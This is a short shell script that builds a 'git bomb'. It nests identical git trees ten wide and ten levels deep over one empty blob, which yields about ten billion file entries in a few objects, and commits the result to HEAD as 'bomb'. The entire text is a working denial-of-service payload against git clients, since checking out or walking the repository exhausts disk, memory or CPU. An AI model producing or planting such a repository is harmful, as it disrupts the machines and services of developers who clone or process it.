set -eu
tree=$(git mktree < /dev/null)
blob=$(git hash-object -w --stdin < /dev/null)
tree=$(for number in 0 1 2 3 4 5 6 7 8 9; do printf '100644 blob %s\tf%s\n' "$blob" "$number"; done | git mktree)
for level in 1 2 3 4 5 6 7 8 9; do
    tree=$(for number in 0 1 2 3 4 5 6 7 8 9; do printf '040000 tree %s\td%s\n' "$tree" "$number"; done | git mktree)
done
git update-ref HEAD "$(git commit-tree -m bomb "$tree")"
